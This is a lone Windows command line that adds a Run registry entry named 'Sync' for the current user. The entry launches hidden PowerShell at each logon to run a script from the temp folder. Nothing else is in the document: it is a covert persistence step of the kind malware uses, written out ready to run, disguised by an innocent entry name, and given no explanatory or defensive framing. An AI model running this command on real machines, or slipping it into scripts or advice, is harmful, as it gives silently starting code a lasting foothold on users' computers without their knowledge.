reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Sync /d "powershell -w hidden -f %TEMP%\s.ps1"
